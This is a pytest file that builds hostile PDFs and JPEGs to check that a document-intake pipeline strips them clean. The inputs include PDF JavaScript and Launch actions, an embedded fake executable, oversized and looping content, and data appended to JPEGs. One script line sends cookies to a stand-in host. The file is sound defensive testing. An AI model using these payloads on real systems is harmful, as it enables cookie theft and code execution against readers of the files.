"""Nothing active leaves: hostile born-digital PDFs and JPEGs through the real pipeline.

Every hostile file is built here, run through ``ingest`` (real PDFium, pikepdf, Tesseract) and
the output is audited object by object (``tests/support/pdfaudit.py``).
"""

from __future__ import annotations

import io
import logging
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf
import pytest
from fpdf import FPDF
from pikepdf import Array, Dictionary, Name, Stream, String
from PIL import Image

from briefkasten import config, i18n, ingest
from briefkasten.config import Settings
from briefkasten.gateway.receipt import receipt_pdf
from briefkasten.model import DocumentRequest, DocumentResult, ReceivedFile, Submission
from briefkasten.pipeline.jpeg import jpeg_layout
from tests.integration.test_ingest import pdftotext
from tests.support import factories, receipts
from tests.support.pdfaudit import audit, jpeg_findings

EXE = b"MZ\x90\x00\x03\x00EVIL-PAYLOAD-4711"
SCRIPT = b"<script>fetch('https://evil.example/'+document.cookie)</script>"
GPS_TEXT = b"GPSLatitude 52.520008"
PAYLOADS = (EXE, b"EVIL-PAYLOAD", b"evil.example", b"PhoneMaker", GPS_TEXT, b"app.alert")
LINES = ("Jobcenter Musterstadt", "Sehr geehrte Frau Müller,", "bitte reichen Sie ein.")


def small_pdf(path: Path) -> Path:
    """A born-digital A6 page with real text (small, so a rasterised one OCRs fast)."""
    pdf = FPDF(format=(105, 148))  # A6, in mm
    pdf.add_font("DejaVu", fname=factories.FONT)
    pdf.set_font("DejaVu", size=12)
    pdf.add_page()
    for line in LINES:
        pdf.cell(0, 9, line, new_x="LMARGIN", new_y="NEXT")
    pdf.output(str(path))
    return path


def js(code: str) -> Dictionary:
    return Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(code))


def hostile(tmp_path: Path, name: str, change: Callable[[pikepdf.Pdf, pikepdf.Page], None]) -> Path:
    source = small_pdf(tmp_path / "clean.pdf")
    path = tmp_path / f"{name}.pdf"
    with pikepdf.open(source) as pdf:
        change(pdf, pdf.pages[0])
        pdf.save(path, compress_streams=False)
    return path


def custom_page_key(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:  # (a)
    page.obj["/Evilaction"] = pdf.make_indirect(js("app.alert('page')"))
    page.obj["/AA"] = Dictionary(O=pdf.make_indirect(js("app.alert('open')")))


def embedded_exe(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:  # (b)
    exe = Stream(pdf, EXE)
    exe["/Type"] = Name.EmbeddedFile
    spec = Dictionary(Type=Name.Filespec, F=String("x.exe"), EF=Dictionary(F=exe))
    page.obj.Resources["/Payload"] = pdf.make_indirect(spec)


def private_stream(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:  # (c)
    page.obj["/PrivateData"] = Stream(pdf, SCRIPT)
    page.obj.Resources["/Private"] = Dictionary(Blob=Stream(pdf, SCRIPT))
    page.obj["/PieceInfo"] = Dictionary(App=Dictionary(Private=Stream(pdf, SCRIPT)))


def form_with_js(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:  # (d)
    inner = Stream(pdf, b"q 0 0 1 rg 10 10 20 20 re f Q")
    inner.update({"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 50, 50])})
    inner["/Resources"] = Dictionary(Hidden=js("app.alert('inner')"))
    inner["/Metadata"] = Stream(pdf, b"<x:xmpmeta>" + GPS_TEXT + b"</x:xmpmeta>")
    outer = Stream(pdf, b"q /Inner Do Q")
    outer.update({"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 50, 50])})
    outer["/Resources"] = Dictionary(
        XObject=Dictionary(Inner=inner), ExtGState=Dictionary(G0=Dictionary(AA=js("x()")))
    )
    outer["/AA"] = js("app.alert('form')")
    page.obj.Resources["/XObject"] = Dictionary(Fm0=outer)
    page.contents_add(Stream(pdf, b"q 1 0 0 1 150 20 cm /Fm0 Do Q"), prepend=False)


def annotations_and_open_action(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:  # (g)
    rect = Array([20, 20, 120, 60])
    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=js("app.alert('link')"))
    uri = Dictionary(S=Name.URI, URI=String("https://evil.example/"))
    web = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=uri)
    launch = Dictionary(S=Name.Launch, F=String("calc.exe"))
    run = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=launch)
    page.obj["/Annots"] = Array([pdf.make_indirect(a) for a in (link, web, run)])
    pdf.Root["/OpenAction"] = pdf.make_indirect(js("app.alert('doc')"))
    pdf.Root["/Names"] = Dictionary(
        JavaScript=Dictionary(Names=Array([String("a"), pdf.make_indirect(js("app.alert(1)"))]))
    )


def huge_image(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:  # (e)
    image = Stream(pdf, zlib.compress(bytes(200_000), 9))  # never decoded by us
    image.update(
        {
            "/Type": Name.XObject,
            "/Subtype": Name.Image,
            "/Width": 60000,
            "/Height": 60000,
            "/ColorSpace": Name.DeviceGray,
            "/BitsPerComponent": 8,
            "/Filter": Name.FlateDecode,
        }
    )
    page.obj.Resources["/XObject"] = Dictionary(Im0=image)
    page.contents_add(Stream(pdf, b"q 40 0 0 40 200 20 cm /Im0 Do Q"), prepend=False)


def inflating_content(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:  # (f)
    filler = b"% padding\n" * 300_000  # 3 MB inflated from a few KB
    stream = Stream(pdf, b"")
    stream.write(zlib.compress(b"q " + filler + b" Q", 9), filter=Name.FlateDecode)
    page.contents_add(stream, prepend=False)


SMALL_STREAMS = {"BRIEFKASTEN_LIMITS_MAX_STREAM_BYTES": str(1024 * 1024)}


@pytest.fixture
def tight() -> Settings:
    """One worker and a 1 MiB stream limit (so the test content stays a few MB)."""
    return config.load(environ={"BRIEFKASTEN_PIPELINE_WORKERS": "1", **SMALL_STREAMS})


def run(source: Path, tmp_path: Path, settings: Settings, **kwargs: str) -> DocumentResult:
    result = ingest([source], tmp_path / "out.pdf", settings=settings, **kwargs)  # type: ignore[arg-type]
    findings = audit(tmp_path / "out.pdf", payloads=PAYLOADS)
    assert findings == []
    return result


def sanitize_step(result: DocumentResult) -> str:
    steps = result.report()["pages"][0]["steps"]
    return next(s["detail"] for s in steps if s["step"] == "sanitize")


@pytest.mark.parametrize(
    ("change", "dropped"),
    [
        (custom_page_key, ["/Evilaction", "/AA"]),
        (embedded_exe, ["/Payload"]),
        (private_stream, ["/PrivateData", "/Private", "/PieceInfo"]),
        (form_with_js, ["/Hidden", "/AA", "/Metadata"]),
        (annotations_and_open_action, ["/Annots"]),
    ],
    ids=["page-key-js", "resource-filespec-exe", "private-script-stream", "form-js", "annots"],
)
def test_hostile_born_digital_page_is_rebuilt_clean(
    tmp_path: Path,
    settings: Settings,
    change: Callable[[pikepdf.Pdf, pikepdf.Page], None],
    dropped: list[str],
) -> None:
    source = hostile(tmp_path, change.__name__, change)
    assert audit(source, payloads=PAYLOADS) != []  # the input really is hostile
    result = run(source, tmp_path, settings)
    page = result.pages[0]
    assert page.kind == "vector"
    assert "rasterised_unsafe_content" not in page.flags
    detail = sanitize_step(result)
    for key in dropped:
        assert key in detail
    text = pdftotext(tmp_path / "out.pdf")
    assert "Frau Müller" in text
    assert "Frau Müller" in result.text


def test_form_xobject_content_is_still_drawn(tmp_path: Path, settings: Settings) -> None:
    source = hostile(tmp_path, "form", form_with_js)
    run(source, tmp_path, settings)
    with pikepdf.open(tmp_path / "out.pdf") as pdf:
        outer = pdf.pages[0].Resources.XObject.Fm0
        assert outer.read_bytes() == b"q /Inner Do Q"
        assert outer.Resources.XObject.Inner.read_bytes() == b"q 0 0 1 rg 10 10 20 20 re f Q"


@pytest.mark.parametrize(
    ("change", "reason"),
    [(huge_image, "pixel limit"), (inflating_content, "more than")],
    ids=["60000x60000-image", "inflating-content"],
)
def test_oversized_born_digital_page_is_rasterised(
    tmp_path: Path,
    tight: Settings,
    change: Callable[[pikepdf.Pdf, pikepdf.Page], None],
    reason: str,
) -> None:
    source = hostile(tmp_path, change.__name__, change)
    result = run(source, tmp_path, tight)
    page = result.pages[0]
    assert page.kind == "raster"
    assert "rasterised_unsafe_content" in page.flags
    assert reason in sanitize_step(result)
    assert "Müller" in pdftotext(tmp_path / "out.pdf")  # OCR text layer of the rendered page


def test_form_xobject_loop_is_rasterised(tmp_path: Path, tight: Settings) -> None:
    def loop(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
        form = pdf.make_indirect(Stream(pdf, b"q Q"))
        form.update({"/Type": Name.XObject, "/Subtype": Name.Form, "/BBox": Array([0, 0, 9, 9])})
        form["/Resources"] = Dictionary(XObject=Dictionary(Self=form))
        page.obj.Resources["/XObject"] = Dictionary(Fm0=form)

    result = run(hostile(tmp_path, "loop", loop), tmp_path, tight)
    assert result.pages[0].kind == "raster"
    assert "loop" in sanitize_step(result)


def test_normal_born_digital_pdf_output_is_clean(tmp_path: Path, settings: Settings) -> None:
    source = factories.born_digital_pdf(tmp_path / "digital.pdf")
    result = run(source, tmp_path, settings)
    assert result.pages[0].kind == "vector"
    assert "Frau Müller" in pdftotext(tmp_path / "out.pdf")


def test_pdf_with_exif_jpeg_image_is_cleaned(tmp_path: Path, settings: Settings) -> None:
    photo = factories.jpeg_with_gps(tmp_path / "photo.jpg", factories.text_page(size=(300, 200)))
    data = photo.read_bytes() + b"PK\x03\x04" + SCRIPT

    def embed(pdf: pikepdf.Pdf, page: pikepdf.Page) -> None:
        image = Stream(pdf, b"")
        image.write(data, filter=Name.DCTDecode)
        image.update(
            {
                "/Type": Name.XObject,
                "/Subtype": Name.Image,
                "/Width": 300,
                "/Height": 200,
                "/ColorSpace": Name.DeviceRGB,
                "/BitsPerComponent": 8,
            }
        )
        page.obj.Resources["/XObject"] = Dictionary(Im0=image)
        page.contents_add(Stream(pdf, b"q 90 0 0 60 100 20 cm /Im0 Do Q"), prepend=False)

    result = run(hostile(tmp_path, "jpeg-in-pdf", embed), tmp_path, settings)
    assert result.pages[0].kind == "vector"
    with pikepdf.open(tmp_path / "out.pdf") as pdf:
        image = pdf.pages[0].Resources.XObject.Im0
        assert jpeg_findings(image.read_raw_bytes()) == []
        assert image.read_raw_bytes().endswith(b"\xff\xd9")


def jpeg_bytes(image_size: tuple[int, int] = (900, 500), **options: object) -> bytes:
    buf = io.BytesIO()
    page = factories.text_page(LINES, size=image_size, font_size=40)
    page.save(buf, "JPEG", quality=90, dpi=(150, 150), **options)
    return buf.getvalue()


def gps_exif_segment() -> bytes:
    """A real APP1 EXIF segment with GPS coordinates and a maker, as a phone writes it."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    gps = exif.get_ifd(0x8825)
    gps.update({1: "N", 2: (52.0, 31.0, 12.0), 3: "E", 4: (13.0, 24.0, 36.0)})
    buf = io.BytesIO()
    Image.new("RGB", (16, 16), "white").save(buf, "JPEG", exif=exif)
    segment = next(s for s in jpeg_layout(buf.getvalue()).metadata if s.kind == "exif")
    return buf.getvalue()[segment.offset : segment.end]


def with_gps_between_scans() -> bytes:
    data = jpeg_bytes(progressive=True)
    second = [s for s in jpeg_layout(data).segments if s.name == "SOS"][1]
    body = b"Exif\x00\x00" + GPS_TEXT
    app1 = b"\xff\xe1" + (len(body) + 2).to_bytes(2, "big") + body
    return data[: second.offset] + app1 + gps_exif_segment() + data[second.offset :]


def with_gps_in_header() -> bytes:
    data = jpeg_bytes()
    return data[:2] + gps_exif_segment() + data[2:]


JPEGS: dict[str, Callable[[], bytes]] = {
    "appended-zip-html": lambda: (
        jpeg_bytes() + b"PK\x03\x04\x14\x00EVIL-PAYLOAD<html>" + SCRIPT + b"</html>"
    ),
    "appended-jpeg-with-gps": lambda: jpeg_bytes() + with_gps_in_header(),
    "exif-between-progressive-scans": with_gps_between_scans,
    "exif-gps-in-header": with_gps_in_header,
}


@pytest.mark.parametrize("name", list(JPEGS))
def test_hostile_jpeg_passes_through_clean(tmp_path: Path, settings: Settings, name: str) -> None:
    data = JPEGS[name]()
    source = tmp_path / "photo.jpg"
    source.write_bytes(data)
    assert jpeg_findings(data) != []  # the input really carries something
    result = run(source, tmp_path, settings, pipeline="ocr-only")
    assert result.pages[0].history[-1].detail == "original JPEG passed through"
    raw = (tmp_path / "out.pdf").read_bytes()
    for marker in (b"Exif", b"PK\x03\x04", b"<html>", GPS_TEXT):
        assert marker not in raw
    assert "Müller" in pdftotext(tmp_path / "out.pdf")


def test_catalog_level_javascript_attachment_and_launch_do_not_survive(
    tmp_path: Path, settings: Settings
) -> None:
    source = factories.hostile_pdf(small_pdf(tmp_path / "a.pdf"), tmp_path / "hostile.pdf")
    assert audit(source) != []
    result = run(source, tmp_path, settings)
    assert {"/AA", "/Annots"} <= set(sanitize_step(result).split(": ", 1)[1].split(", "))


def test_png_with_exif_gps_is_passed_through_clean(tmp_path: Path, settings: Settings) -> None:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"
    exif.get_ifd(0x8825).update({1: "N", 2: (52.0, 31.0, 12.0)})
    source = tmp_path / "scan.png"
    page = factories.text_page(LINES, size=(900, 500), font_size=40)
    page.save(source, exif=exif, dpi=(150, 150))
    assert b"PhoneMaker" in source.read_bytes()
    result = run(source, tmp_path, settings, pipeline="ocr-only")
    assert result.pages[0].history[-1].detail == "original PNG passed through"
    assert b"Exif" not in (tmp_path / "out.pdf").read_bytes()


def test_receipt_pdf_is_clean(tmp_path: Path) -> None:
    name = "<script>alert(1)</script>.pdf"
    files = (ReceivedFile("f1", name, "k", "a" * 64, 1234, "application/pdf", 1),)
    document = DocumentRequest("d1", "sonstiges", files)
    submission = Submission(
        "s1", "demo", "12345BG0012345", "2026-11-24T10:00:00+00:00", "upload", (document,)
    )
    for lang in ("de", "en", "uk", "ar"):
        path = tmp_path / f"receipt-{lang}.pdf"
        path.write_bytes(receipt_pdf(submission, "Jobcenter Test", lang=lang))
        assert audit(path) == []
        assert i18n.text(lang, "receipt.title") in receipts.text_of(path.read_bytes())
        assert name in pdftotext(path)  # shown as text, nothing more


def test_no_file_name_or_content_in_logs(
    tmp_path: Path,
    settings: Settings,
    caplog: pytest.LogCaptureFixture,
    capfd: pytest.CaptureFixture[str],
) -> None:
    caplog.set_level(logging.DEBUG)
    source = hostile(tmp_path, "Mueller-Geheim", form_with_js)
    data = source.read_bytes()
    cut = data.rindex(b"startxref")
    source.write_bytes(data[:cut] + b"startxref\n12\n%%EOF\n")  # a wrong offset: repaired
    run(source, tmp_path, settings)
    logged = caplog.text + "".join(capfd.readouterr())
    for secret in ("Mueller-Geheim", "app.alert", "Frau Müller"):
        assert secret not in logged
